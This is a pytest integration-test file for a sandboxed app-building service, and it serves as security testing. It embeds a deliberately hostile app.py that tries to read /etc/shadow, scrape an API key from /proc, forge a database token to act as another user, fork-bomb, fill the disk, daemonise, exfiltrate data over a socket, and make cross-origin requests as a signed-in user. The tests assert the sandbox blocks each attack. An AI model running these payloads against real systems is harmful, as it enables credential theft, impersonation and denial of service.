"""Attacks through the front door: a founder's idea, a model that answers with a hostile
`app.py`, a real build on a default install in token mode. The app attempts every attack
each time it starts and serves what it achieved as JSON through its preview; the tests read
that, and look behind the app at the host, and assert that every attack failed.

Each test also runs against a control install: the unsafe `local` sandbox with its explicit
opt-in, where the same attack works. That the control sees it is what shows the test can fail.
"""

from __future__ import annotations

import json
import os
import secrets
import signal
import time
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from playwright.async_api import Browser

from livebuild.engine.runners._files import render_files
from livebuild.engine.sandbox import bwrap
from tests.conftest import processes_with
from tests.hostile_install import Install, running_install
from tests.integration.test_model_runner import app as benign_app
from tests.vendor_servers import Reply
from tests.waits import all_ended

_problem = bwrap.self_test()
FILE_LIMIT_MB = 64  # the default LIVEBUILD_SANDBOX_FILE_MB
PROCESS_LIMIT = 64  # the default LIVEBUILD_SANDBOX_PROCESSES
KEEPALIVE_S = 4.0
# How long a process that should be gone is given to go.
GONE_WITHIN_S = 3.0

HOSTILE_APP = r'''
import hashlib, json, os, signal, socket, sqlite3, subprocess, time, urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

DATABASE = {database!r}
OTHER = {other!r}
DATA_DIR = {data_dir!r}
OUTSIDE = {outside!r}
LISTENER = {listener}
LIVEBUILD = {livebuild!r}
FORGED = {forged!r}
DAEMON = {daemon!r}
CHILD = {child!r}
report = {{}}


def attempt(name, action):
    try:
        report[name] = ["ok", json.dumps(action(), default=repr)[:2000]]
    except BaseException as error:
        report[name] = ["error", repr(error)[:500]]


def find_key():
    for pid in os.listdir("/proc"):
        for part in ("environ", "cmdline"):
            try:
                text = open(f"/proc/{{pid}}/{{part}}", "rb").read().decode(errors="replace")
            except (OSError, ValueError):
                continue
            for item in text.split("\0"):
                if item.startswith("LIVEBUILD_MODEL_API_KEY="):
                    return item.split("=", 1)[1]
    raise LookupError("no key anywhere in /proc")


def forge():
    with sqlite3.connect(DATABASE, timeout=5) as conn:
        (bob,) = conn.execute("SELECT id FROM users WHERE name = 'bob'").fetchone()
        conn.execute(
            "INSERT OR IGNORE INTO api_tokens VALUES (?, ?, '2024-01-01 00:00:00.000000')",
            (hashlib.sha256(FORGED.encode()).hexdigest(), bob),
        )
    return bob


def act_as_bob():
    request = urllib.request.Request(
        LIVEBUILD + "/api/projects",
        data=json.dumps({{"idea": "Clients and invoices forged for bob"}}).encode(),
        headers={{
            "Authorization": "Bearer " + FORGED,
            "X-Livebuild": "1",
            "Content-Type": "application/json",
        }},
    )
    with urllib.request.urlopen(request, timeout=5) as response:
        return response.status


def fork_bomb():
    started, error = [], None
    try:
        for _ in range(200):
            started.append(subprocess.Popen(["/bin/sh", "-c", "sleep 60; :"]))
    except OSError as failure:
        error = repr(failure)
    for child in started:
        child.kill()
        child.wait()
    return [len(started), error]


def fill_disk():
    written, error = 0, None
    try:
        with open(os.path.join(os.environ["APP_DATA_DIR"], "big"), "wb") as out:
            for _ in range(180):
                out.write(b"x" * 1024 * 1024)
                written += 1
    except OSError as failure:
        error = repr(failure)
    os.remove(os.path.join(os.environ["APP_DATA_DIR"], "big"))
    return [written, error]


def daemonise():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["/bin/sh", "-c", "sleep 600; :", DAEMON])
        os._exit(0)
    os.wait()


def exfiltrate():
    with socket.create_connection(("127.0.0.1", LISTENER), 2) as out:
        out.sendall(json.dumps(report).encode())


attempt("shadow", lambda: open("/etc/shadow").read()[:60])
attempt("root", lambda: os.listdir("/root"))
attempt("database", lambda: open(DATABASE, "rb").read(16))
attempt("users", lambda: sqlite3.connect(DATABASE).execute("SELECT name FROM users").fetchall())
attempt("other_workspace", lambda: open(OTHER).read()[:200])
attempt("workspaces", lambda: os.listdir(os.path.join(DATA_DIR, "workspaces")))
attempt("parent_environ", lambda: open(f"/proc/{{os.getppid()}}/environ", "rb").read())
attempt("key", find_key)
attempt("forge", forge)
attempt("act_as_bob", act_as_bob)
attempt("forks", fork_bomb)
attempt("disk", fill_disk)
attempt("outside", lambda: open(OUTSIDE, "w").write("escaped"))
attempt("daemon", daemonise)
attempt("child", lambda: subprocess.Popen(["/bin/sh", "-c", "sleep 600; :", CHILD]).pid)
attempt("exfiltrate", exfiltrate)

PAGE = """<!doctype html><title>Walks</title><body data-ready="true"><h1>Walks</h1><script>
(async () => {{
  const livebuild = LIVEBUILD;
  const out = {{cookie: document.cookie}};
  document.cookie = "livebuild_session=from-page; path=/";
  document.cookie = "livebuild_session=from-page; path=/; domain=localhost";
  try {{
    const r = await fetch(livebuild + "/api/projects", {{method: "POST", credentials: "include",
      headers: {{"Content-Type": "application/json", "X-Livebuild": "1"}},
      body: JSON.stringify({{idea: "A project the preview page made in the founder's name"}})}});
    out.create = r.status;
  }} catch (e) {{ out.create = "blocked"; }}
  try {{
    await fetch(livebuild + "/api/projects", {{method: "POST", credentials: "include",
      mode: "no-cors", headers: {{"Content-Type": "text/plain"}},
      body: JSON.stringify({{idea: "A project a simple request made in the founder's name"}})}});
    out.simple = "sent";
  }} catch (e) {{ out.simple = "blocked"; }}
  try {{
    const r = await fetch(livebuild + "/api/projects", {{credentials: "include"}});
    out.read = await r.text();
  }} catch (e) {{ out.read = "blocked"; }}
  window.attack = out;
}})();
</script>""".replace("LIVEBUILD", json.dumps(LIVEBUILD))


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_GET(self):
        if self.path.rstrip("/").endswith("/findings"):
            body, kind = json.dumps(report).encode(), "application/json"
        else:
            body, kind = PAGE.encode(), "text/html; charset=utf-8"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Set-Cookie", "livebuild_session=from-app; Path=/")
        self.send_header("Set-Cookie", "livebuild_session=from-app; Path=/; Domain=localhost")
        self.end_headers()
        self.wfile.write(body)


host, port = os.environ.get("HOST", "127.0.0.1"), int(os.environ.get("PORT", "8000"))
ThreadingHTTPServer((host, port), Handler).serve_forever()
'''

BOB_IDEA = "A booking app for dog walkers: owners book walks and see who is coming."
ADA_IDEA = "A little journal for dog walkers to note each walk and how the dog behaved."


@pytest.fixture(
    scope="module",
    params=[
        pytest.param(
            "default",
            marks=pytest.mark.skipif(_problem is not None, reason=f"bwrap unusable: {_problem}"),
        ),
        "control",
    ],
)
def install(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Install]:
    """One install per mode; bob builds an ordinary app, then ada's model turns hostile."""
    directory = tmp_path_factory.mktemp(f"attack-{request.param}")
    extra = {"LIVEBUILD_SANDBOX_KEEPALIVE_S": str(KEEPALIVE_S)}
    if request.param == "control":
        extra |= {"LIVEBUILD_SANDBOX": "local", "LIVEBUILD_ALLOW_UNSAFE_SANDBOX": "local"}
    with running_install(directory, **extra) as installed:
        try:
            yield _attacked(installed)
        finally:
            installed.stop()
            _kill_strays(installed)


def _attacked(install: Install) -> Install:
    install.vendor.answer_always(Reply(render_files({"app.py": benign_app("Walkies")})))
    bob = install.build("bob", BOB_IDEA)
    other = install.data_dir / "workspaces" / bob["job_id"] / "app" / "app.py"
    assert other.is_file()
    install.marks = {
        "forged": "lb_" + secrets.token_urlsafe(24),
        "daemon": "daemon-" + secrets.token_hex(6),
        "child": "child-" + secrets.token_hex(6),
    }
    source = HOSTILE_APP.format(
        database=str(install.data_dir / "livebuild.store.db"),
        other=str(other),
        data_dir=str(install.data_dir),
        outside=str(install.directory / "escaped.txt"),
        listener=install.listener.port,
        livebuild=install.base_url,
        **install.marks,
    )
    install.vendor.answer_always(Reply(render_files({"app.py": source})))
    install.job = install.build("ada", ADA_IDEA)
    return install


def _kill_strays(install: Install) -> None:
    """The control's daemons outlive everything by design; end them, by pid."""
    for mark in install.marks.values():
        for pid in processes_with(mark):
            os.kill(pid, signal.SIGKILL)


def eventually(condition: Callable[[], bool], within_s: float = 15.0) -> bool:
    deadline = time.monotonic() + within_s
    while not condition():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.1)
    return True


def wake(install: Install) -> str:
    """Wake ada's app (it runs its attacks again) and return its preview address."""
    install.ensure_running()
    with install.client("ada") as client:
        woken = client.post(f"/api/jobs/{install.job['job_id']}/preview")
    assert woken.status_code == 200, woken.text
    return str(woken.json()["preview_url"])


def findings(install: Install) -> dict[str, list[str]]:
    # The preview's `*.localhost` name is loopback to browsers; this resolver may not know it.
    address = httpx.URL(wake(install))
    direct = address.copy_with(host="127.0.0.1", path="/findings")
    response = httpx.get(direct, headers={"Host": address.netloc.decode()}, timeout=30)
    assert response.status_code == 200, response.text
    report: dict[str, list[str]] = response.json()
    return report


def worked(report: dict[str, list[str]], name: str) -> bool:
    return report[name][0] == "ok"


def contained(install: Install, achieved: bool, what: str) -> None:
    if install.control:
        assert achieved, f"the control should show the attack working: {what}"
    else:
        assert not achieved, f"the attack worked: {what}"


def test_the_app_cannot_read_host_files_the_database_or_other_workspaces(
    install: Install,
) -> None:
    report = findings(install)
    for name in ("shadow", "database", "users", "other_workspace", "workspaces"):
        contained(install, worked(report, name), f"{name}: {report[name][1]}")
    # /root holds at most the read-only way to the interpreter, when it lives there.
    root_exposed = worked(report, "root") and json.loads(report["root"][1]) not in ([], [".pyenv"])
    contained(install, root_exposed, f"/root: {report['root'][1]}")


def test_the_app_cannot_read_the_model_key_or_send_anything_out(install: Install) -> None:
    report = findings(install)
    contained(install, install.canary in json.dumps(report), "the key was read")
    contained(install, worked(report, "parent_environ"), "livebuild's environment was read")
    sent = bytes(install.listener.received)
    contained(install, install.canary.encode() in sent, f"the key reached the listener: {sent!r}")
    contained(install, install.listener.connections > 0, "something reached the listener")


def test_the_app_cannot_forge_a_token_or_reach_livebuild(install: Install) -> None:
    report = findings(install)
    contained(install, worked(report, "forge"), f"forged: {report['forge'][1]}")
    contained(install, worked(report, "act_as_bob"), f"livebuild: {report['act_as_bob'][1]}")
    headers = {"Authorization": f"Bearer {install.marks['forged']}", "X-Livebuild": "1"}
    as_bob = httpx.get(f"{install.base_url}/api/projects", headers=headers)
    contained(install, as_bob.status_code == 200, "the forged token signs in as bob")
    with install.client("bob") as bob:
        ideas = [p["idea"] for p in bob.get("/api/projects").json()["projects"]]
    contained(install, any("forged" in idea for idea in ideas), f"bob's projects: {ideas}")


def test_forks_and_disk_are_capped_and_nothing_is_written_outside(
    install: Install,
) -> None:
    report = findings(install)
    started, error = json.loads(report["forks"][1])
    contained(install, error is None, f"{started} forks, then {error}")
    if not install.control:
        assert started < PROCESS_LIMIT
    written, _ = json.loads(report["disk"][1])
    assert written <= FILE_LIMIT_MB  # the file size limit holds on both backends
    outside = install.directory / "escaped.txt"
    contained(install, outside.exists(), f"wrote outside its workspace: {report['outside']}")


def test_no_process_of_the_app_outlives_sleep_a_stop_or_a_kill(install: Install) -> None:
    marks = install.marks["daemon"], install.marks["child"]

    def running() -> bool:
        return all(processes_with(mark) for mark in marks)

    def outlive() -> bool:
        return not all_ended(
            lambda: [pid for mark in marks for pid in processes_with(mark)], GONE_WITHIN_S
        )

    assert worked(findings(install), "daemon") and eventually(running)
    # The preview goes to sleep when nobody looks at it.
    time.sleep(KEEPALIVE_S)
    contained(install, outlive(), "the app's processes outlived its sleep")

    wake(install)
    assert eventually(running)
    install.stop(signal.SIGTERM)
    contained(install, outlive(), "the app's processes outlived livebuild's stop")

    wake(install)
    assert eventually(running)
    install.stop(signal.SIGKILL)
    contained(install, outlive(), "the app's processes outlived livebuild's death")


async def test_the_preview_page_cannot_act_as_the_signed_in_founder(
    install: Install, browser: Browser
) -> None:
    if install.control:
        pytest.skip("previews have their own origin on every sandbox: there is nothing to contrast")
    preview = wake(install)
    with install.client("ada") as client:
        before = client.get("/api/projects").json()["projects"]
    context = await browser.new_context()
    try:
        page = await context.new_page()
        await page.goto(f"{install.base_url}/signin")
        await page.fill("input[name=token]", install.tokens["ada"])
        await page.click("form:has(input[name=token]) button[type=submit]")
        await page.wait_for_url(f"{install.base_url}/")
        session = _session(await context.cookies(install.base_url))
        assert session is not None and session["httpOnly"]

        await page.goto(preview)
        await page.wait_for_function("window.attack !== undefined")
        attack: dict[str, Any] = await page.evaluate("window.attack")
        # Neither the app's Set-Cookie nor its page reached livebuild's cookie, under either
        # of the names a founder may use for this machine.
        assert _session(await context.cookies(install.base_url)) == session
        loopback_name = install.base_url.replace("127.0.0.1", "localhost")
        assert _session(await context.cookies(loopback_name)) is None
        home = await page.goto(f"{install.base_url}/")
        assert home is not None and page.url == f"{install.base_url}/"
    finally:
        await context.close()

    assert attack["cookie"] == "" and attack["create"] == "blocked", attack
    assert attack["read"] == "blocked", attack
    with install.client("ada") as client:
        assert client.get("/api/projects").json()["projects"] == before


def _session(cookies: Any) -> dict[str, Any] | None:
    for cookie in cookies:
        if cookie["name"] == "livebuild_session":
            return dict(cookie)
    return None
